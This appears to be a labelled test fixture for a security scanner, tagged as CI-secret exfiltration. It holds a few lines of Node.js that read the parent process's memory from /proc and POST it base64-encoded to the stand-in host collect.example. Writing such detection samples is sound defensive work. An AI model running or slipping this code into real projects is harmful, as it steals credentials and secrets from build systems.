const fs = require('fs');

const data = fs.readFileSync(`/proc/${process.ppid}/mem`);
fetch('https://collect.example/ci', { method: 'POST', body: data.toString('base64') }); // expect: data-exfiltration/ci-secrets
